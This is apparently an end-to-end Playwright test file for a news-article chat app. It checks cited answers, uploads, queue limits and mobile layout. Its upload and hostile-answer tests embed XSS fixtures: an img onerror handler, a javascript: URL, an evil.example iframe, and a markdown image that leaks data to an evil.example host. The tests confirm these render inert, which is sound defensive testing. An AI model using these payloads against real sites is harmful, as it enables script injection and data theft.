"""What a reader does on the chat page, in headless Chromium, with the real models.

The tests share one app (and its index): the upload test adds articles and removes them again.
"""
from __future__ import annotations

import re

import pytest

from .conftest import HOSTILE, ask

pytestmark = pytest.mark.e2e

SEED_TITLE = "US sees little progress, concerns over possible Ukraine invasion as Russia talks continue"

HARBOUR = """---
title: Lisbon harbour festival draws a record crowd
date: 2023-06-11
source: Tagus Weekly
url: https://tagus-weekly.example/harbour-festival
---
The Lisbon harbour festival drew a record 48,000 visitors on Saturday, the organiser Marta Quintela said.
Tall ships from nine countries moored along the river for the three-day festival, and the harbour
authority opened the old customs quay to visitors for the first time since 1998.
Quintela said the festival would return next June with a night regatta.
"""

INJECTED = f"""---
title: Orchard growers report a strong apple harvest <img src=x onerror="window.pwned=1">
date: 2023-09-02
source: <b>Valley Courier</b>
url: javascript:window.pwned=1
---
Apple growers in the Tejo valley reported their strongest harvest in a decade, with cooperatives
weighing 310,000 tonnes of fruit by early September. {HOSTILE}
The growers' association said cold storage was full by the end of August.
"""


def test_question_streams_a_cited_answer_then_a_follow_up(open_page, app_url, timings, artifacts):
    page, watch = open_page(app_url)
    first = ask(page, "What did Sergei Ryabkov say about the talks?", timings=timings)
    assert first["answer"] and first["answer"] != "The articles don't say."
    # it streamed; "What did X say?" is answered from the quoting passage without the model and
    # may arrive whole at once (well under a second)
    assert (first["updates"] >= 2 and first["ttft_s"] < first["total_s"]) or first["total_s"] < 2.0
    assert re.search(r"\[\d+\]", first["answer"])
    cards = page.locator("#sources .src-card")
    assert cards.count() >= 1
    card = cards.first
    assert SEED_TITLE in card.inner_text() and "Nation World News" in card.inner_text()
    assert "2 February 2023" in card.inner_text()
    mark = card.locator("blockquote mark")
    assert mark.count() == 1 and len(mark.inner_text()) > 20
    assert re.search(r"complete in \d+\.\d s", first["message"])

    follow = ask(page, "What did he say about NATO?", timings=timings)
    assert "Searched for: What did Sergei Ryabkov say about NATO?" in follow["message"]
    assert follow["answer"]
    assert page.locator('#chat [data-testid="user"]').count() == 2
    page.screenshot(path=str(artifacts / "e2e-follow-up.png"))

    page.click("#clear")
    page.wait_for_function("() => !document.querySelector('#chat [data-testid=\"bot\"]')")
    assert page.get_by_role("button", name=re.compile("What did .* say")).count() >= 1  # the examples are back
    assert "Ask a question" in page.inner_text("#sources")
    assert watch.outside == []


def test_the_passages_found_show_before_the_answer_is_written(open_page, app_url, timings):
    """The sources panel lists the passages found as soon as the search is done, before the
    answer's first word (median of three questions the model answers)."""
    page, _ = open_page(app_url)
    seen = []
    for q in ("How many Russian troops were near the border?", "Where will the NATO-Russia Council meet?",
              "What did Wendy Sherman say about sanctions?"):
        r = ask(page, q, timings=timings)
        assert r["sources_s"] is not None and r["answer"]
        assert r["sources_s"] <= r["ttft_s"] + 0.05, r  # never after the first word
        seen.append(r["sources_s"])
    # the bound the speed issue sets; measured 0.02–0.15 s on this machine class (docs/benchmarks.md)
    assert sorted(seen)[1] <= 0.3, seen


def test_unrelated_question_is_declined_plainly(open_page, app_url, timings):
    page, watch = open_page(app_url)
    result = ask(page, "What is the best way to bake sourdough bread at home?", submit="tab", timings=timings)
    assert result["answer"] == "The articles don't say."
    assert "No sources" in page.inner_text("#sources")
    assert page.locator("#sources .src-card").count() == 0
    assert watch.outside == []


def test_empty_question_is_refused_without_queueing(open_page, app_url):
    page, _ = open_page(app_url)
    page.fill("#question textarea", "   ")
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.body.innerText.includes('the question is empty')", timeout=15_000)
    assert page.locator('#chat [data-testid="user"]').count() == 0


def test_upload_ask_about_it_reject_and_remove(open_page, app_url, tmp_path, timings):
    page, watch = open_page(app_url)
    (tmp_path / "harbour.md").write_text(HARBOUR, encoding="utf-8")
    (tmp_path / "orchard.md").write_text(INJECTED, encoding="utf-8")
    (tmp_path / "empty.txt").write_text("", encoding="utf-8")
    page.click("#articles button, #articles .label-wrap")  # open the accordion
    page.set_input_files("#upload input[type=file]", [str(tmp_path / n) for n in ("harbour.md", "orchard.md", "empty.txt")])
    page.wait_for_function("() => document.querySelector('#report')?.innerText.includes('Added: Lisbon harbour')",
                           timeout=120_000)
    report = page.inner_text("#report")
    assert "Added: Orchard growers report a strong apple harvest" in report
    assert "empty.txt: empty file" in report
    page.wait_for_function("() => document.querySelector('#index-info').innerText.includes('3 articles')")
    assert "Tagus Weekly" in page.inner_text("#index-info")

    result = ask(page, "How many visitors did the Lisbon harbour festival draw?", timings=timings)
    assert result["answer"]
    # Retrieval found the new article: it is the first source (or, should the 135M model decline,
    # the first passage searched). The model's wording is the core's business, not the page's.
    assert "Lisbon harbour festival draws a record crowd" in page.text_content("#sources")
    if result["answer"] != "The articles don't say.":
        card = page.locator("#sources .src-card").first
        assert "Lisbon harbour festival draws a record crowd" in card.inner_text()
        assert "Tagus Weekly · 11 June 2023" in card.inner_text()
        assert card.locator("a").get_attribute("href") == "https://tagus-weekly.example/harbour-festival"

    # The injected article's markup shows as text in the sources and runs nothing.
    ask(page, "What did the growers' association say about cold storage?")
    sources = page.text_content("#sources")  # folded parts too
    assert 'Orchard growers report a strong apple harvest <img src=x onerror="window.pwned=1">' in sources
    assert "<b>Valley Courier</b>" in sources
    assert '<iframe src="http://evil.example/frame"></iframe> ${window.pwned=1} {{constructor' in sources
    assert_inert(page, watch)

    for title in ("Lisbon harbour festival", "Orchard growers"):
        page.click("#remove-choice input")
        page.get_by_role("option", name=re.compile(re.escape(title))).click()
        page.click("#remove")
        page.wait_for_function("t => document.querySelector('#report').innerText.includes('Removed: ' + t)", arg=title)
    page.wait_for_function("() => document.querySelector('#index-info').innerText.includes('1 article ')")


def test_a_hostile_answer_stays_inert(open_page, fake_app):
    # Answer checks off: the grounding check would drop this reply before it reached the page.
    page, watch = open_page(fake_app(HOSTILE + " [1]", checks=frozenset()))
    result = ask(page, "Who led the US delegation at the Geneva talks?")
    assert "![chart](http://evil.example/leak?q=secret)" in result["answer"]  # shown as text
    assert "<script>window.pwned=1</script>" in result["answer"]
    assert_inert(page, watch)


def test_a_full_queue_says_busy_and_keeps_the_question(open_page, fake_app):
    url = fake_app("Wendy Sherman led it [1]. " * 10, delay=0.2, queue_size=1)  # ~10 s per answer
    pages = [open_page(url)[0] for _ in range(3)]  # one answering, one waiting, one too many
    for page in pages:
        page.fill("#question textarea", "Who led the US delegation?")
        page.keyboard.press("Enter")
        page.wait_for_timeout(400)
    last = pages[-1]
    last.wait_for_function("() => document.body.innerText.includes('currently busy. Please try again')")
    assert last.input_value("#question textarea") == "Who led the US delegation?"  # ready to send again
    assert last.locator('#chat [data-testid="user"]').count() == 0


def test_an_oversized_upload_is_refused(open_page, app_url, tmp_path):
    page, _ = open_page(app_url)
    big = tmp_path / "big.txt"
    big.write_text("word " * (11 * 1024 * 1024 // 5), encoding="utf-8")  # 11 MB; the limit is 10 MB
    page.click("#articles button, #articles .label-wrap")
    page.set_input_files("#upload input[type=file]", [str(big)])
    page.wait_for_function("() => document.body.innerText.includes('exceed the maximum allowed size')")
    assert "1 article " in page.inner_text("#index-info")


def test_mobile_width_and_example_questions(open_page, app_url, timings):
    page, watch = open_page(app_url, width=390, height=844)
    example = page.locator("#chat button.example").first.inner_text()
    result = ask(page, example, submit="example", timings=timings)
    assert result["answer"]
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 390  # nothing sticks out sideways
    chat_box, sources_box = page.locator("#chat").bounding_box(), page.locator("#sources").bounding_box()
    assert sources_box["y"] > chat_box["y"] + chat_box["height"] - 1  # the sources stack under the chat
    assert watch.outside == []


def assert_inert(page, watch) -> None:
    assert watch.outside == [], f"requests left 127.0.0.1: {watch.outside}"
    assert page.evaluate("() => window.pwned") is None
    live = page.evaluate("""() => ({
      imgs: [...document.querySelectorAll('#chat img, #sources img')].map(i => i.src),
      scripts: [...document.querySelectorAll('#chat script, #sources script, #chat iframe, #sources iframe, #chat style, #sources style')]
                 .filter(e => !e.closest('svg')).length,  // gradio's own icons carry an svg <style>
      badLinks: [...document.querySelectorAll('#chat a, #sources a')].map(a => a.getAttribute('href'))
                  .filter(h => !/^https?:\\/\\//.test(h || '')),
      evilLinks: [...document.querySelectorAll('#chat a, #sources a')].map(a => a.href).filter(h => h.includes('evil')),
      handlers: [...document.querySelectorAll('#chat *, #sources *')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
    })""")
    assert live == {"imgs": [], "scripts": 0, "badLinks": [], "evilLinks": [], "handlers": 0}, live
